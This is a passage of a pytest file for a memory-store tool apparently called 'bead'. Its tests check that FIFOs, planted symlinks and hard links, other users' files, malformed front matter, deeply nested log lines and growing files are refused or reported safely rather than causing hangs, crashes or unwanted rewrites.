    with someone reading the FIFO's other end no audit line goes to them."""
    assert run_cli("write", "user/editor", "helix", "--type", "user").exit_code == 0
    audit = bead_home / "audit.log"
    audit.unlink()
    os.mkfifo(audit)
    held = os.open(audit, os.O_RDONLY | os.O_NONBLOCK) if reader else None
    try:
        r = run_cli("write", "user/editor", "kakoune", "--type", "user")
        assert r.exit_code == 1 and f"refusing to write {audit}: it is a FIFO" in r.output, r.output
        assert f"remove {audit}" in r.output
        assert not (bead_home / "store" / "facts" / "user" / "editor" / "v2.md").exists()
        if held is not None:
            assert os.read(held, 1 << 16) == b""  # nothing was sent to the reader (and no writer holds it)
    finally:
        if held is not None:
            os.close(held)
    audit.unlink()
    r = run_cli("write", "user/editor", "kakoune", "--type", "user")
    assert r.exit_code == 0 and "user/editor@v2" in r.output, r.output


def _audit_fifo(home: Path) -> Path:
    audit = home / "audit.log"
    audit.unlink(missing_ok=True)
    os.mkfifo(audit)
    return audit


def _tree_bytes(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file()
        and not p.is_symlink()
        and stat.S_ISREG(p.lstat().st_mode)
        and not p.name.startswith("index.db")
        and p.name not in ("config.yaml", ".lock")  # the first command writes the config; a lock file is empty
    }


@pytest.mark.parametrize("change", ["pin", "forget", "reject", "reinforce"])
def test_a_fifo_at_the_audit_log_refuses_every_change_before_it_is_made(bead_home, change):
    """Not only a write: a pin changed the version file, a review's reject wrote its tombstone, a forget its
    tombstones, and each then failed on the audit log. Each is refused before anything changes, and `bead status`
    names the FIFO with what to do."""
    with Memory(Home(bead_home), Config(owner="t")) as m:
        m.write("project/shop/db", "Postgres on 5433", "project")
        m.set_status(m.write("project/shop/dormant", "An old note", "project").fact, "dormant")
        item, _ = Queue(m).add("untrusted-source", "project/shop/cache", "project", "Redis on 6380", [], "no typed words", "u")
    _audit_fifo(bead_home)
    before = _tree_bytes(bead_home)
    args = {
        "pin": ["pin", "project/shop/db"],
        "forget": ["forget", "project/shop/db", "--yes"],
        "reject": ["queue", "reject", item.id],
        "reinforce": ["reinforce", "project/shop/dormant"],
    }[change]
    r = run_cli(*args)
    assert r.exit_code == 1 and "FIFO" in r.output and f"remove {bead_home / 'audit.log'}" in r.output, r.output
    assert _tree_bytes(bead_home) == before
    status = run_cli("status")
    assert f"{bead_home / 'audit.log'} is not a regular file" in status.output, status.output
    assert f"remove {bead_home / 'audit.log'}" in status.output


def test_a_trace_may_be_the_persons_own_named_pipe_and_one_no_one_reads_is_a_trace_error(tmp_path):
    """The trace goes where the person chose: their own FIFO, read as it is written, gets the line. One no one reads
    is refused at once (never waited on), and the proxy counts it as the trace's error."""
    fifo = tmp_path / "trace.pipe"
    os.mkfifo(fifo, 0o600)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        Trace(fifo).record({"note": "hello"})
        assert json.loads(os.read(reader, 1 << 16))["note"] == "hello"
    finally:
        os.close(reader)
    with pytest.raises(UnsafePath, match="it is a FIFO"):
        Trace(fifo).record({"note": "again"})


def test_a_line_appended_after_one_cut_short_starts_on_its_own(tmp_path):
    """A full disk cut a record of a conversation's state (or the audit log, or a trace) mid-line, and the next
    record was appended onto the same line: both unreadable, a cue record lost and the prompt cache broken with it.
    The raw log already began such a line anew; every appended file does now."""
    import json

    from bead.files import append_line, lines_of

    f = tmp_path / "state.jsonl"
    f.write_bytes(b'{"kind": "pinned", "text": "a"}\n{"kind": "captured", "up')  # cut short
    append_line(f, json.dumps({"kind": "cue", "message": 2}), root=tmp_path)
    lines = lines_of(f.read_text())
    assert lines[-1] == '{"kind": "cue", "message": 2}' and json.loads(lines[0])["kind"] == "pinned", lines
    append_line(f, json.dumps({"kind": "ahead"}), root=tmp_path)
    assert lines_of(f.read_text())[-2:] == ['{"kind": "cue", "message": 2}', '{"kind": "ahead"}']  # no blank line


def test_a_raw_file_whose_name_is_not_utf8_stops_neither_reindex_nor_forget(bead, mem):
    """A file under store/raw/ named with bytes that are not UTF-8 (not bead's: it names none so) ended `bead reindex`
    and a forget half way with a traceback (the index cannot hold the path), and the forget left index.db behind.
    It is left out and named by `bead status`, with what to do."""
    mem.write("user/editor", "uses vim", "user")
    day = mem.home.store / "raw" / "2026" / "01" / "01"
    day.mkdir(parents=True)
    odd = os.fsencode(str(day)) + b"/s\x9b.md"
    with open(odd, "wb") as f:
        f.write(b"x")
    r = bead("reindex")
    assert r.code == 0 and "Traceback" not in r.err, r.err
    r = bead("forget", "user/editor", "--yes")
    assert r.code == 0 and "Traceback" not in r.err, r.err
    out = bead("status").out
    assert "may still hold text" not in out and "behind the files" not in out, out
    assert "its name is not UTF-8" in out and "s\\udc9b.md" in out


def test_forget_never_rewrites_or_reads_another_users_file_named_as_a_trace(bead, mem, tmp_path, second_os_user):
    """A line planted in proxy.runtime.jsonl names any file as a trace: forget replaced another user's JSONL file
    with one of its own (root's, mode 0600, the matching line gone), and forget's plan and the dashboard read
    whatever the line named. Another user's file is neither rewritten nor read; the person's own trace keeps its
    mode."""
    import pwd

    if os.getuid() != 0:
        pytest.skip("needs root to give a file to another user")
    theirs = tmp_path / "app.jsonl"
    theirs.write_text("".join(json.dumps(trace_line(s, n=n)) + "\n" for s, n in (("a", "keep"), ("b", "zebra-falcon-4411"))))
    theirs.chmod(0o644)
    os.chown(theirs, pwd.getpwnam(second_os_user).pw_uid, -1)
    ours = tmp_path / "trace.jsonl"
    ours.write_text("".join(json.dumps(trace_line(s, n=n)) + "\n" for s, n in (("c", "zebra-falcon-4411"), ("d", "keep"))))
    ours.chmod(0o644)
    runtime = mem.home.root / "proxy.runtime.jsonl"
    runtime.write_text(
        "".join(json.dumps({"at": "2026-01-01T00:00:00Z", "pid": 1, "trace": str(p)}) + "\n" for p in (theirs, ours))
    )
    mem.write("user/pet", "zebra-falcon-4411", "user")
    before = os.stat(theirs)
    r = bead("forget", "user/pet", "--yes")
    assert r.code == 0, r.err
    after = os.stat(theirs)
    assert (after.st_ino, after.st_uid, after.st_mode) == (before.st_ino, before.st_uid, before.st_mode)
    assert "zebra-falcon-4411" in theirs.read_text()
    assert "zebra-falcon-4411" not in ours.read_text() and stat.S_IMODE(os.stat(ours).st_mode) == 0o644
    from bead.core.trace import NotATrace, Trace

    with pytest.raises(NotATrace):
        Trace(theirs).entries()


def test_the_dashboards_trace_hint_never_waits_on_a_config_that_became_a_link(mem, tmp_path):
    """config.yaml replaced by a link to a FIFO after the home was opened: each dashboard page's trace hint waited on
    it for good (a thread per page), and a link to a file outside the home was read."""
    import threading

    from bead.core.health import trace_hint

    fifo = tmp_path / "ff"
    os.mkfifo(fifo)
    mem.home.config.unlink(missing_ok=True)
    mem.home.config.symlink_to(fifo)
    done = threading.Event()
    threading.Thread(target=lambda: (trace_hint(mem.home), done.set()), daemon=True).start()
    assert done.wait(20), "the hint waited on the FIFO behind the link"


def test_a_hard_linked_fact_file_is_not_read_to_check_the_index(bead, mem, tmp_path):
    """`bead status` said of a hard-linked version file that bead neither reads nor writes it, while the index's
    check read it whole (its digest), wherever its other name lives."""
    from bead.index.db import sha256_file

    mem.write("user/editor", "Helix", "user")
    f = mem.home.store / "facts" / "user" / "editor" / "v1.md"
    outside = tmp_path / "big"
    outside.write_bytes(b"x" * 1000)
    f.unlink()
    os.link(outside, f)
    from bead.files import HardLink

    with pytest.raises(HardLink):
        sha256_file(f)
    r = bead("status")
    assert "hard link" in r.out and "Traceback" not in r.err, r.out + r.err


def test_finding_a_sessions_raw_file_never_lists_a_folder_a_link_leads_to(mem, tmp_path, monkeypatch):
    """A link planted under store/raw/: a new session's first turn listed the folders it led to (glob follows
    folder links) on the proxy's path."""
    outside = tmp_path / "o3" / "01" / "01"
    outside.mkdir(parents=True)
    (mem.home.store / "raw").mkdir(parents=True, exist_ok=True)
    (mem.home.store / "raw" / "2020").symlink_to(tmp_path / "o3")
    listed: list[str] = []

    def where(p) -> str:  # a folder listed by its descriptor is named by what it is open on
        return os.readlink(f"/proc/self/fd/{p}") if isinstance(p, int) else os.path.realpath(p)

    real = os.listdir
    monkeypatch.setattr(os, "listdir", lambda p=".": listed.append(where(p)) or real(p))
    real_scandir = os.scandir
    monkeypatch.setattr(os, "scandir", lambda p=".": listed.append(where(p)) or real_scandir(p))
    assert mem.raw.find("s1") is None
    turn = mem.raw.append("s1", "user", "hi")
    assert listed and turn and not any("o3" in p for p in listed), listed


class TestHandEditedFiles:
    """What a person's hand edit or another program may leave in the home's files (an adversarial pass, 2026-12-06):
    each is a problem `bead status` names, never a crash that stops forget, reindex or the indexer."""

    def edit(self, bead_home, key: str, old: str, new: str) -> Path:
        path = Home(bead_home).store / "facts" / key / "v1.md"
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))
        return path

    @pytest.mark.parametrize("when", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:30:00-01:00"])
    def test_a_time_out_of_range_is_a_problem_and_forget_still_runs(self, bead, bead_home, when):
        assert bead("write", "user/editor", "Neovim with lazy.nvim", "--type", "user").code == 0
        assert bead("write", "user/shell", "fish", "--type", "user").code == 0
        path = Home(bead_home).store / "facts" / "user" / "editor" / "v1.md"
        path.write_text(
            "\n".join(f"valid_from: {when}" if ln.startswith("valid_from:") else ln for ln in path.read_text().split("\n"))
        )
        for args in (("status",), ("reindex",), ("show", "user/shell")):
            r = bead(*args)
            assert "Traceback" not in r.err and "bug in bead" not in r.err, (args, r.err)
        assert "out of range" in bead("status").out + bead("status").err
        r = bead("forget", "user/editor", "--yes")
        assert r.code == 0 and "Traceback" not in r.err, r.err
        assert not path.exists()

    @pytest.mark.parametrize("log", ["audit.log", "tombstones.log"])
    def test_a_line_nested_past_what_json_reads_in_a_log_stops_nothing(self, bead, bead_home, log):
        assert bead("write", "user/editor", "Helix quokkavim 4411", "--type", "user").code == 0
        with open(Home(bead_home).root / log, "a") as f:
            f.write("[" * 200_000 + "]" * 200_000 + "\n")
        r = bead("forget", "user/editor", "--yes")
        assert r.code == 0 and "Traceback" not in r.err, r.err
        assert b"quokkavim" not in b"".join(p.read_bytes() for p in (Home(bead_home).store / "facts").rglob("*") if p.is_file())
        r = bead("write", "project/shop/x", "an agent's note", "--type", "project", "--trust", "agent_observed")
        assert r.code == 0 and "Traceback" not in r.err, r.err
        for args in (("status",), ("reindex",)):
            r = bead(*args)
            assert "Traceback" not in r.err and "bug in bead" not in r.err, (args, r.err)

    @pytest.mark.parametrize("written", ['"false"', "[false]", "2"])
    def test_pinned_that_is_not_true_or_false_pins_nothing(self, bead, bead_home, written):
        """`pinned: "false"` read as true (a non-empty string): the fact went into every pinned block."""
        assert bead("write", "user/editor", "Helix", "--type", "user").code == 0
        self.edit(bead_home, "user/editor", "pinned: false", f"pinned: {written}")
        out = bead("show", "user/editor", "--json")
        assert not (out.code == 0 and json.loads(out.out).get("pinned") is True), out.out
        assert "is not true or false" in bead("status").out

    @pytest.mark.parametrize("written", ["0", "null", ""])
    def test_pinned_written_empty_or_as_a_number_reads_as_meant(self, bead, bead_home, written):
        """A review: the strict reading made `pinned: null` a problem, and the key fell back to its older version."""
        assert bead("write", "user/editor", "Helix", "--type", "user").code == 0
        assert bead("write", "user/editor", "Neovim", "--type", "user").code == 0
        path = Home(bead_home).store / "facts" / "user" / "editor" / "v2.md"
        path.write_text(path.read_text().replace("pinned: false", f"pinned: {written}", 1))
        out = json.loads(bead("show", "user/editor", "--json").out)
        assert out["body"] == "Neovim" and out["pinned"] is False, out

    @pytest.mark.parametrize("written", ["true", "1.0"])
    def test_a_version_that_is_no_whole_number_matches_no_file(self, bead, bead_home, written):
        assert bead("write", "user/editor", "Helix", "--type", "user").code == 0
        self.edit(bead_home, "user/editor", "version: 1", f"version: {written}")
        assert "does not match its file name" in bead("status").out

    def test_an_index_whose_first_build_failed_is_built_again_at_the_next_open(self, bead, bead_home, tmp_path):
        """A first rebuild that failed (here a hard link the store refuses) left an empty index that read as current:
        once the cause was fixed, every search found nothing until `bead reindex` (an adversarial pass)."""
        assert bead("write", "user/pet", "The narwhal is called Nils", "--type", "user").code == 0
        assert bead("write", "user/shell", "fish", "--type", "user").code == 0
        home = Home(bead_home)
        outside = tmp_path / "outside.md"
        os.link(home.store / "facts" / "user" / "shell" / "v1.md", outside)
        for p in home.root.glob("index.db*"):
            p.unlink()
        assert bead("search", "narwhal").code != 0
        outside.unlink()  # the cause fixed: the version file has one link again
        r = bead("search", "narwhal")
        assert r.code == 0 and "user/pet" in r.out, r.out + r.err


def test_a_file_that_grows_while_read_is_never_held_past_the_limit(tmp_path, monkeypatch):
    """The size was checked once, then the file read to its end: one that grew meanwhile was held whole, however
    large (an adversarial pass). The read stops a byte past the limit and refuses it."""
    from bead import files

    path = tmp_path / "grows.md"
    path.write_bytes(b"x" * 100)
    real_read = os.read
    grown = []

    def read(fd, n):  # another process appends while bead reads
        if not grown:
            grown.append(True)
            with open(path, "ab") as f:
                f.write(b"y" * 10_000)
        return real_read(fd, n)

    monkeypatch.setattr(files.os, "read", read)
    with pytest.raises(files.TooLarge, match="grew past"):
        files.read_bytes(path, root=tmp_path, limit=1000)
